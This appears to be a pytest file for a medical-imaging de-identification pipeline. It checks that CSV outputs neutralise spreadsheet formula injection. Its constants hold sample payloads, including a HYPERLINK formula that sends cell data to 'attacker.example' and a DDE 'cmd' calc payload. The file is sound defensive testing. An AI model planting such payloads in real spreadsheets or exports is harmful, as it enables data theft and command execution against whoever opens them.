"""Spreadsheet formulas from outside stay inert in every CSV the site stage and the nightly run write.

A small drop is built here (pydicom DICOM, site tables) with text a spreadsheet would run planted
where each writer takes it from: a DICOM Manufacturer and model (imaging_manifest.csv: not modality),
file and folder names (the vault ledger), MRNs and accession numbers (the crosswalk), pass-through
cells of clinical.csv and reads.csv (which never leave: no valid code, so replaced; the vault's record
of them). It goes through the real ``cohortpool deid``; then every cell of every CSV it wrote must be
inert (``'`` first) while plain negative numbers stay numbers. The nightly run's cross-site warnings
CSV is written by a task that needs validated batches of several sites, so its writer
(:func:`cohortpool.pipeline.hub.compare_site_distributions`)
is called directly, on batches built here, rather than through a whole nightly run.

Already covered elsewhere: validation's quarantine.csv / warnings.csv (tests/hardening/test_bad_csv.py,
tests/unit/test_validate_quarantine.py), the report's CSV and XLSX exports
(tests/unit/test_report_exports.py), ``cohortpool stats compare`` (tests/hardening/test_bad_csv.py).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.uid import CTImageStorage, ExplicitVRLittleEndian
from support import cli, csv_cells, live_formulas

from cohortpool.contract import FINDINGS

pytestmark = [
    pytest.mark.xdist_group("hardening-formulas"),
    pytest.mark.filterwarnings("ignore:Invalid value for VR"),  # "+CT" is not a valid CS on purpose
]
NIGHT = "2024-05-06"
SITE = "site01"

# what the DICOM headers carry into the manifest
MANUFACTURER = '=HYPERLINK("http://attacker.example/?"&A1,"scanner")'
MODEL = "@SUM(1+1)*cmd|' /C calc'!A0"
MODALITY = "+CT"
# what becomes a vault ledger input_path (file and folder names) and crosswalk local ids
FILE_NAME = "=HYPERLINK(1).dcm"
FOLDER_NAME = "-cmd|x"
NOT_DICOM = "@notes.txt"
MRNS = ("@MRN1", "=2+2")
ACCESSION = "-ACC+1"
# cells of the site tables (kept columns and the free-text primary_tumour)
CLINICAL_CELLS = {"primary_tumour": '=HYPERLINK("http://attacker.example/","lung")', "height_cm": "+160+1"}
READS_CELLS = {"modality": "=CT", "level": "@L1", "fracture_line": "+yes", "genant_grade": "-2+3",
               "height_loss_pct": "=31.5"}  # fmt: skip


def _dicom(path: Path, mrn: str, number: int) -> None:
    ds = Dataset()
    ds.file_meta = FileMetaDataset()
    ds.file_meta.TransferSyntaxUID = ExplicitVRLittleEndian
    ds.SOPClassUID = CTImageStorage
    ds.SOPInstanceUID = f"1.2.826.0.1.3680043.9.4242.{number}.1"
    ds.StudyInstanceUID = f"1.2.826.0.1.3680043.9.4242.{number}"
    ds.SeriesInstanceUID = f"1.2.826.0.1.3680043.9.4242.{number}.2"
    ds.PatientID, ds.PatientName, ds.AccessionNumber = mrn, "Doe^Jane", ACCESSION
    ds.StudyDate, ds.Modality = "20240301", MODALITY
    ds.Manufacturer, ds.ManufacturerModelName = MANUFACTURER, MODEL
    ds.Rows, ds.Columns = 4, 4
    ds.SamplesPerPixel, ds.PhotometricInterpretation = 1, "MONOCHROME2"
    ds.BitsAllocated, ds.BitsStored, ds.HighBit, ds.PixelRepresentation = 16, 12, 11, 0
    ds.PixelData = bytes(4 * 4 * 2)
    path.parent.mkdir(parents=True, exist_ok=True)
    ds.save_as(path, enforce_file_format=True)


def _table(path: Path, header: list[str], rows: list[list[str]]) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


def _drop(root: Path) -> Path:
    drop = root / SITE / NIGHT
    _dicom(drop / FILE_NAME, MRNS[0], 1)  # file names at the top of the drop start the ledger path
    _dicom(drop / FOLDER_NAME / "IM1.dcm", MRNS[1], 2)
    (drop / NOT_DICOM).write_text("not an image\n", encoding="utf-8")
    clinical = {
        "birth_date": "1950-06-15", "sex": "F", "height_cm": "160", "weight_kg": "61", "bmi": "23.83",
        "dxa_t_score": "-2.9", "diagnosis": "OP", "pathology_confirmed": "no", "primary_tumour": "",
        "first_exam_date": "2024-03-01", "patient_name": "Doe^Jane", "address": "x", "phone": "1",
    }  # fmt: skip
    header = ["mrn", *clinical]
    evil = {**clinical, **CLINICAL_CELLS}
    _table(drop / "clinical.csv", header, [[MRNS[0], *evil.values()], [MRNS[1], *clinical.values()]])
    read = {"accession_number": ACCESSION, "modality": "CT", "level": "L1", "reader": "Dr X",
            "read_date": "2024-03-02", **dict.fromkeys(FINDINGS, "no"), "genant_grade": "2",
            "height_loss_pct": "31.5"}  # fmt: skip
    _table(drop / "reads.csv", ["mrn", *read], [[MRNS[0], *{**read, **READS_CELLS}.values()]])
    return drop


@pytest.fixture(scope="module")
def deidentified(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """The drop through the real ``cohortpool deid``: (submission, vault)."""
    root = tmp_path_factory.mktemp("formulas")
    drop = _drop(root / "landing")
    out, vault = root / "submission", root / "vault"
    proc = cli("deid", str(drop), str(out), "--site", SITE, "--vault", str(vault), "--workers", "1")
    assert proc.returncode == 1, proc.stderr  # the text file is quarantined, the rest de-identified
    return out, vault


#: writer -> (file relative to the submission or the vault, planted values it must carry escaped)
WRITERS = {
    # the modality leaves only as a DICOM defined term: "+CT" never reaches the manifest (test below)
    "imaging_manifest": ("submission", "imaging_manifest.csv", (MANUFACTURER, MODEL)),
    # the site tables' formula cells are no valid code or vocabulary term: they never leave (below), and
    # the vault's record of them, which the site opens to fix its export, keeps them inert
    "table findings": ("vault", f"tables/{NIGHT}.csv", (*CLINICAL_CELLS.values(), *READS_CELLS.values())),
    "ledger": ("vault", f"ledger/{NIGHT}.csv", (FILE_NAME, f"{FOLDER_NAME}/IM1.dcm", NOT_DICOM)),
    "crosswalk": ("vault", "crosswalk.csv", (*MRNS, ACCESSION)),
}


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_formula_text_from_the_site_is_inert_in_every_csv_cohortpool_deid_writes(
    deidentified, writer
) -> None:
    out, vault = deidentified
    where, relative, planted = WRITERS[writer]
    path = (out if where == "submission" else vault) / relative
    assert live_formulas(path) == []
    cells = csv_cells(path)
    for value in planted:
        assert "'" + value in cells, (value, cells)  # kept, made inert


def test_a_modality_that_is_no_defined_term_never_reaches_the_manifest(deidentified) -> None:
    out, _ = deidentified
    cells = csv_cells(out / "imaging_manifest.csv")
    assert MODALITY not in cells and "'" + MODALITY not in cells


@pytest.mark.parametrize("table", ["clinical.csv", "reads.csv"])
def test_formula_cells_of_the_site_tables_never_leave(deidentified, table) -> None:
    out, _ = deidentified
    assert live_formulas(out / table) == []
    cells = csv_cells(out / table)
    for value in (*CLINICAL_CELLS.values(), *READS_CELLS.values()):
        assert value not in cells and "'" + value not in cells, value


def test_negative_numbers_stay_numbers(deidentified) -> None:
    out, vault = deidentified
    assert "-2.9" in csv_cells(out / "clinical.csv")  # the T-score, not "'-2.9"
    with (vault / "crosswalk.csv").open(encoding="utf-8", newline="") as handle:
        shifts = [r["date_shift_days"] for r in csv.DictReader(handle) if r["kind"] == "patient"]
    assert len(shifts) == len(MRNS) and all(int(s) < 0 for s in shifts)


# -- the nightly run's cross-site distribution warnings -------------------------------------------------
def _validated(root: Path, site: str, men: float) -> None:
    """A validated batch with 20 accepted clinical rows, ``men`` of them (share) men."""
    batch = root / site / NIGHT
    (batch / "accepted").mkdir(parents=True)
    n = 20
    frame = pd.DataFrame(
        {
            "age_years": [70 + i % 5 for i in range(n)],
            "bmi": [24.0 + (i % 3) / 10 for i in range(n)],
            "dxa_t_score": [-2.5 - (i % 4) / 10 for i in range(n)],
            "sex": ["M" if i < men * n else "F" for i in range(n)],
            "diagnosis": ["OP"] * n,
        }
    )
    frame.to_parquet(batch / "accepted" / "clinical.parquet")
    (batch / "summary.json").write_text(json.dumps({"site_id": site, "night": NIGHT}), encoding="utf-8")


def test_nightly_distribution_warnings_csv_is_formula_safe(tmp_path) -> None:
    # called directly: the step needs only validated batches, not a whole nightly run
    from cohortpool.pipeline.hub import compare_site_distributions

    evil = "=HYPERLINK(1)"  # a site folder name under the validated root
    _validated(tmp_path / "validated", evil, men=0.9)
    _validated(tmp_path / "validated", "site02", men=0.1)
    _validated(tmp_path / "validated", "site03", men=0.1)
    out = tmp_path / "distribution_warnings.csv"
    assert compare_site_distributions(tmp_path / "validated", out) >= 1
    assert live_formulas(out) == []
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert "'" + evil in {r["site_id"] for r in rows}
    differences = [r["difference"] for r in rows if r["site_id"] != "'" + evil]
    assert any(d.startswith("-") for d in differences)  # negative numbers are not escaped
